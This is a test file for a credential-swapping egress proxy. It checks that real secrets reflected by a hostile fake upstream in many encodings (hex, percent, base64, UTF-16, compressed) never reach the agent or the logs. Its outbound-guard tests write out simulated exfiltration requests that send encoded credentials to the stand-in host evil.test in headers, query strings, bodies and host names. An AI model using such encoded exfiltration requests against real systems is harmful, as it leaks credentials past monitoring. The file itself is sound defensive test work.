/**
 * `agent-smith proxy` against a compromised credential host: a real proxy process and a
 * real HTTPS upstream (test/fakes/https-upstream.ts `/hostile`) that reflects the real
 * value it was sent in every form an outside attack run used (hex in any case, percent
 * encoding of every byte, JSON `\u` escapes, HTML references, line-wrapped base64,
 * base64 of UTF-16), in the body, a header, a redirect's Location, compressed under any
 * field or none, and inside a header the proxy quotes in its 502. The agent must never
 * see the real value in any form, no log or audit line may hold it (or a prefix of it),
 * and the outbound guard must refuse each form of a stub to a host outside its scope.
 *
 * The check (`revealed`) is written here, independently of the proxy's own matcher: the
 * forms come from the fake's encoder, base64 runs are decoded at every alignment, and
 * compressed bodies are decompressed before looking.
 */
import zlib from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hostileEncode, startHttpsUpstream, type HttpsUpstream } from '../fakes/https-upstream.ts';
import { connect, exchange, startProxy, startTls, viaConnect, viaTransparentTls, type CredentialFixture, type ProxyFixture, type RawResponse } from './proxy-harness.ts';

// `~ ? >` put `+` and `/` into its base64, so the percent-encoded and `\/` forms differ.
const CI_REAL = 'ciReal~Zq8V4l?u3xK7>pT2mW9nB5vY1cH6gJ0f?Ls';
const CI_STUB = 'agent-smith-stub-HHHHoooossssTTTTiiiilllleeeeHHHHoooossss7777';
const GH_REAL = 'ghp_Hq2R7zXv9LmK4tW8yN3bC6dF1gJ5sP0aE';
const GH_STUB = 'agent-smith-stub-GGGGhhhhGGGGhhhhGGGGhhhhGGGGhhhhGGGGhhhh1111';

const CREDENTIALS: CredentialFixture[] = [
  { name: 'ci', hosts: ['ci.test'], scheme: 'bearer', header: 'Authorization', stub: CI_STUB, require: false, real: CI_REAL },
  { name: 'github', hosts: ['api.test'], scheme: 'basic', header: 'Authorization', stub: GH_STUB, require: false, real: GH_REAL },
];
const NAMES = ['ci.test', 'api.test', 'evil.test', 'other.test'];

const FORMS = ['raw', 'hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'json', 'JSON', 'entDec', 'entHex', 'ENTHEX', 'b64', 'b64url', 'b64pct', 'b64php', 'mime', 'pem', 'utf16le', 'utf16be'];
/** Forms that are matched in any letter case (made of hex digits). */
const CASELESS = new Set(['hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'json', 'JSON', 'entHex', 'ENTHEX']);

/** Decompressed views of `body` (each that decodes), one level deep and then one more. */
function decompressions(body: Buffer, depth = 2): Buffer[] {
  const out: Buffer[] = [];
  const z = zlib as unknown as Record<string, ((b: Buffer) => Buffer) | undefined>;
  for (const f of [zlib.gunzipSync, zlib.inflateSync, zlib.inflateRawSync, zlib.brotliDecompressSync, z.zstdDecompressSync]) {
    if (!f) continue;
    try {
      const d = f(body);
      if (d.length) out.push(d, ...(depth > 1 ? decompressions(d, depth - 1) : []));
    } catch {
      // not this format
    }
  }
  return out;
}

/** Where `text` shows `value`: the name of the form, or undefined. Independent of the proxy's matcher. */
function revealedIn(text: string, value: string): string | undefined {
  const flat = text.replace(/\r?\n/g, '');
  const lower = flat.toLowerCase();
  // A prefix (or any part) of 8 characters, raw: what a cut-before-redaction leaks (a
  // stub's fixed "agent-smith-stub-" prefix is no secret).
  const secret = value.replace(/^agent-smith-stub-/, '');
  // In any letter case: a lower-cased copy of a value is as good as the value.
  for (let i = 0; i + 8 <= secret.length; i++) if (lower.includes(secret.slice(i, i + 8).toLowerCase())) return `raw part "${secret.slice(i, i + 8)}"`;
  for (const form of FORMS) {
    if (form === 'mime' || form === 'pem') continue;
    const f = hostileEncode(value, form);
    if (CASELESS.has(form) ? lower.includes(f.toLowerCase()) : flat.includes(f)) return form;
  }
  // Base64 / base64url runs, at every character offset, as UTF-8 and UTF-16 (also after
  // undoing percent-encoding and `\/`).
  const inner = value.slice(2, -2);
  const unescaped = flat.replace(/%([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16))).replace(/\\\//g, '/');
  for (const run of [...(flat.match(/[A-Za-z0-9+/_-]{12,}/g) ?? []), ...(unescaped.match(/[A-Za-z0-9+/_-]{12,}/g) ?? [])]) {
    for (let o = 0; o < 4; o++) {
      const bytes = Buffer.from(run.slice(o).replace(/-/g, '+').replace(/_/g, '/'), 'base64');
      for (const shift of [0, 1]) {
        const b = bytes.subarray(shift);
        if (b.toString('latin1').includes(inner) || b.toString('utf16le').includes(inner) || Buffer.from(b.subarray(0, b.length & ~1)).swap16().toString('utf16le').includes(inner)) return 'base64';
      }
    }
  }
  return undefined;
}

/** Where a response shows `value`, decompressed bodies included. */
function revealed(res: RawResponse, value: string): string | undefined {
  for (const view of [Buffer.concat([Buffer.from(res.head, 'latin1'), Buffer.from('\r\n\r\n'), res.body]), ...decompressions(res.body)]) {
    const hit = revealedIn(view.toString('latin1'), value);
    if (hit) return hit;
  }
  return undefined;
}

const request = (target: string, host: string, fields: string[] = [], body?: string) =>
  `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${fields.map((f) => `${f}\r\n`).join('')}${body !== undefined ? `Content-Length: ${Buffer.byteLength(body)}\r\n` : ''}Connection: close\r\n\r\n${body ?? ''}`;
const BEARER = `Authorization: Bearer ${CI_STUB}`;

describe('agent-smith proxy: a hostile credential host', () => {
  let up: HttpsUpstream;
  let fx: ProxyFixture;
  let mark = 0;
  /** Characters of the proxy's output before this test: each test checks its own lines. */
  let outMark = 0;
  const responses: RawResponse[] = [];
  const seen = (r: RawResponse) => (responses.push(r), r);
  const hostile = (form: string, via: string, pad = 7) => viaConnect(fx, 'ci.test:443', request(`/hostile?form=${form}&via=${via}&pad=${pad}`, 'ci.test', [BEARER])).then(seen);
  const audit = (pred: (l: Record<string, unknown>) => boolean) => fx.waitForLog((l) => l.audit === true && fx.logs().indexOf(l) >= mark && pred(l), 5_000);

  beforeAll(async () => {
    up = await startHttpsUpstream({ names: NAMES });
    const ports = { '443': up.httpsPort, '80': up.httpPort };
    const hosts = Object.fromEntries(NAMES.map((n) => [n, { addresses: ['127.0.0.1'], ports }]));
    fx = await startProxy({ allow: [...NAMES, '*.wild.test'], allowCidrs: ['127.0.0.0/8'], credentials: CREDENTIALS, hosts, upstreamCa: [up.caPem] });
  });

  afterAll(async () => {
    await fx?.stop();
    await up?.close();
  });

  beforeEach(() => {
    up.clear();
    responses.length = 0;
    mark = fx.logs().length;
    outMark = fx.output().length;
  });

  afterEach(async () => {
    for (let stable = 0, last = -1; stable < 3; ) {
      await new Promise((r) => setTimeout(r, 50));
      stable = fx.output().length === last ? stable + 1 : 0;
      last = fx.output().length;
    }
    // Nothing the agent received shows a real value, in any form.
    for (const r of responses) {
      for (const real of [CI_REAL, GH_REAL]) expect(revealed(r, real), `a real value in a response:\n${r.head}\n\n${r.body.toString('latin1').slice(0, 400)}`).toBeUndefined();
    }
    // No log or audit line shows a real value or a stub (or a part of one).
    const output = fx.output().slice(outMark);
    for (const value of [CI_REAL, GH_REAL, CI_STUB, GH_STUB]) expect(revealedIn(output, value), `${value.slice(0, 6)}... in the proxy's log`).toBeUndefined();
    // No real value went anywhere but its own host.
    for (const entry of up.received) {
      const text = Buffer.concat(entry.bytes).toString('latin1');
      if (entry.sni !== 'ci.test') expect(revealedIn(text, CI_REAL), `ci's real value reached ${entry.sni}`).toBeUndefined();
      if (entry.sni !== 'api.test') expect(revealedIn(text, GH_REAL), `github's real value reached ${entry.sni}`).toBeUndefined();
    }
  });

  describe('the real value reflected in every form', () => {
    it.each(['body', 'chunked', 'header', 'location'])('via %s: every form is scrubbed', async (via) => {
      for (const form of FORMS) {
        if (via !== 'body' && via !== 'chunked' && (form === 'mime' || form === 'pem')) continue;
        const res = await hostile(form, via);
        expect(res.status, `${form} via ${via}`).toBe(via === 'location' ? 302 : 200);
        expect(revealed(res, CI_REAL), `${form} via ${via}`).toBeUndefined();
      }
      // The stub takes the real value's place, in the same form.
      const raw = await hostile('hex', via);
      expect(revealedIn(raw.head + raw.body.toString('latin1'), CI_STUB)).toBe('hex');
    });

    it('line-wrapped base64 (MIME 76 CRLF, PEM 64 LF), the break at every place in the value', async () => {
      for (const form of ['mime', 'pem']) {
        for (let pad = 0; pad < 80; pad += 3) {
          const res = await hostile(form, 'body', pad);
          expect(res.status).toBe(200);
          expect(revealed(res, CI_REAL), `${form} pad ${pad}`).toBeUndefined();
        }
      }
    });
  });

  describe('compressed bodies', () => {
    it.each(['ce-gzip', 'ce-identity-then-gzip', 'ce-list', 'ce-stacked', 'ce-deflate', 'ce-br', 'ce-zstd', 'te-gzip'])('%s: decoded, scrubbed, passed on without Content-Encoding', async (via) => {
      for (const form of ['raw', 'hex', 'b64']) {
        const res = await hostile(form, via);
        expect(res.status, `${form} ${via}: ${res.body.toString('latin1').slice(0, 200)}`).toBe(200);
        expect(res.headers['content-encoding']).toBeUndefined();
        expect(res.body.toString()).toContain(hostileEncode(CI_STUB, form));
      }
    });

    it.each(['sniff-gzip', 'sniff-zstd', 'sniff-zlib'])('%s (no header at all): the compressed real value is refused, 502', async (via) => {
      const res = await hostile('raw', via);
      expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 502, reason: 'credential_in_compressed_body' });
      expect(await audit((l) => l.reason === 'credential_in_compressed_body')).toMatchObject({ decision: 'deny', host: 'ci.test' });
    });

    it('a decompression bomb is refused once it passes the cap, and the proxy keeps serving', async () => {
      const res = await hostile('raw', 'bomb');
      expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 502, reason: 'compressed_response' });
      expect(res.body.toString()).toMatch(/more than \d+ bytes/);
      const after = await hostile('raw', 'body');
      expect(after.status).toBe(200);
    });
  });

  describe('messages quote only redacted values', () => {
    it("an upstream header the 502 quotes: no part of the real value in the body or the audit line", async () => {
      for (const form of ['raw', 'hex', 'pct']) {
        const res = await hostile(form, 'ce-quoted');
        expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 502, reason: 'compressed_response' });
        expect(revealedIn(res.body.toString('latin1'), CI_REAL)).toBeUndefined();
      }
      const line = await audit((l) => l.reason === 'compressed_response');
      expect(String(line.message)).toContain('[redacted:ci]');
    });

    it('a client value a refusal quotes (Host, Transfer-Encoding, path): redacted before it is cut', async () => {
      for (const pad of [30, 70, 75]) {
        const host = `${'h'.repeat(pad)}${CI_REAL}.test`;
        const r1 = seen(await viaConnect(fx, 'ci.test:443', request('/x', host, [BEARER])));
        expect(r1.status).toBeGreaterThanOrEqual(400);
        const r2 = seen(await viaConnect(fx, 'ci.test:443', `POST /x HTTP/1.1\r\nHost: ci.test\r\nTransfer-Encoding: ${'t'.repeat(pad)}${CI_REAL}, chunked\r\nConnection: close\r\n\r\n0\r\n\r\n`));
        expect(r2.status).toBeGreaterThanOrEqual(400);
        const r3 = seen(await viaConnect(fx, 'evil.test:443', request(`/${'p'.repeat(500 - pad)}${CI_STUB}`, 'evil.test')));
        expect(r3.status).toBe(403);
      }
      // A host name is lower-cased before it is quoted: the redaction must still see it.
      const { socket, res } = await connect(fx.port, `${GH_REAL}.nope.test:443`);
      socket.destroy();
      expect(seen(res).status).toBe(403);
    });
  });

  describe('the outbound guard: one set of forms', () => {
    const singleLine = FORMS.filter((f) => f !== 'mime' && f !== 'pem');
    const queryable = ['raw', 'hex', 'HEX', 'hexMixed', 'pct', 'PCT', 'pctMixed', 'b64url', 'b64pct'];

    it('refuses every form of a stub to a host outside its scope: in a header, the query, the body', async () => {
      for (const form of FORMS) {
        const enc = hostileEncode(CI_STUB, form);
        const attempts = [
          ...(singleLine.includes(form) ? [request('/collect', 'evil.test', [`X-Data: ${enc}`])] : []),
          ...(queryable.includes(form) ? [request(`/collect?d=${enc}`, 'evil.test')] : []),
          `POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: ${Buffer.byteLength(enc) + 10}\r\nConnection: close\r\n\r\n{"d":"${enc}"}\n`,
        ];
        for (const attempt of attempts) {
          const res = seen(await viaConnect(fx, 'evil.test:443', attempt));
          expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }, `${form}: ${attempt.slice(0, 60)}`).toEqual({ status: 403, reason: 'stub_out_of_scope' });
        }
      }
      expect(revealedIn(up.receivedFor('evil.test'), CI_STUB)).toBeUndefined();
    });

    it('refuses a stub spelled into a host name under an allowed wildcard (transparent TLS, SNI) before any lookup or dial', async () => {
      const name = `${CI_STUB.toLowerCase()}.wild.test`;
      const res = seen(await viaTransparentTls(fx, name, request('/', name)));
      expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 403, reason: 'stub_out_of_scope' });
      expect(await audit((l) => l.reason === 'stub_out_of_scope' && l.location === 'host')).toMatchObject({ decision: 'deny', credential: 'ci' });
    });

    it('refuses a CONNECT to a host name with a stub spelled into it before the name is resolved', async () => {
      const name = `${CI_STUB.toLowerCase()}.wild.test`;
      const { socket, res } = await connect(fx.port, `${name}:443`);
      socket.destroy();
      const r = seen(res);
      expect({ status: r.status, reason: r.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 403, reason: 'stub_out_of_scope' });
      expect(await audit((l) => l.method === 'CONNECT' && l.reason === 'stub_out_of_scope')).toMatchObject({ decision: 'deny', credential: 'ci' });
    });

    it('refuses every form of a real value to any host, its own included', async () => {
      for (const form of FORMS) {
        const enc = hostileEncode(CI_REAL, form);
        for (const host of ['evil.test', 'ci.test']) {
          const res = seen(await viaConnect(fx, `${host}:443`, `POST /collect HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${Buffer.byteLength(enc)}\r\nConnection: close\r\n\r\n${enc}`));
          expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }, `${form} to ${host}`).toEqual({ status: 403, reason: 'real_credential' });
        }
      }
    });
  });

  describe("GitHub's `token` scheme", () => {
    it('swaps `token <stub>` on the credential host (bearer or basic credential) and refuses it elsewhere', async () => {
      const ok = seen(await viaConnect(fx, 'ci.test:443', request('/echo', 'ci.test', [`Authorization: token ${CI_STUB}`])));
      expect(ok.status).toBe(200);
      expect(up.requests[0]?.rawHeaders).toContain(`token ${CI_REAL}`);
      expect(await audit((l) => l.host === 'ci.test' && l.method === 'GET')).toMatchObject({ decision: 'allow', credential: 'ci', location: 'header:authorization' });
      const refused = seen(await viaConnect(fx, 'evil.test:443', request('/echo', 'evil.test', [`Authorization: Token ${CI_STUB}`])));
      expect({ status: refused.status, reason: refused.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 403, reason: 'stub_out_of_scope' });
      expect(up.requests.filter((r) => r.sni === 'evil.test')).toEqual([]);
      // A basic (git) credential takes it too: gh sends `token`, git sends Basic.
      const gh = seen(await viaConnect(fx, 'api.test:443', request('/echo', 'api.test', [`Authorization: token ${GH_STUB}`])));
      expect(gh.status).toBe(200);
      expect(up.requests.find((r) => r.sni === 'api.test')?.rawHeaders).toContain(`token ${GH_REAL}`);
    });
  });

  describe('WebSockets', () => {
    const upgrade = (host: string, auth: string[] = []) =>
      `GET /ws HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n${auth.map((a) => `${a}\r\n`).join('')}\r\n`;

    it('refuses an upgrade to a credential host without allowWebSocket, naming the fix; nothing reaches it', async () => {
      const { socket } = await connect(fx.port, 'ci.test:443');
      const t = await startTls(socket, { servername: 'ci.test', caPem: fx.caPem });
      const res = seen(await exchange(t, upgrade('ci.test', [BEARER])));
      t.destroy();
      expect({ status: res.status, reason: res.headers['x-agent-smith-deny']?.[0] }).toEqual({ status: 403, reason: 'websocket_unscanned' });
      expect(res.body.toString()).toContain('spec.egress.credentials[ci].allowWebSocket');
      expect(await audit((l) => l.reason === 'websocket_unscanned')).toMatchObject({ decision: 'deny', status: 403, host: 'ci.test', credential: 'ci', upgrade: true });
      expect(up.requests).toEqual([]);
      expect(up.receivedFor('ci.test')).toBe('');
    });

    it('still forwards an upgrade to a host without a credential', async () => {
      const { socket } = await connect(fx.port, 'other.test:443');
      const t = await startTls(socket, { servername: 'other.test', caPem: fx.caPem });
      const res = seen(await exchange(t, upgrade('other.test')));
      expect(res.status).toBe(101);
      const echoed = new Promise<Buffer>((r) => t.once('data', r));
      t.write('ping');
      expect((await echoed).toString()).toBe('ping');
      t.destroy();
    });
  });
});
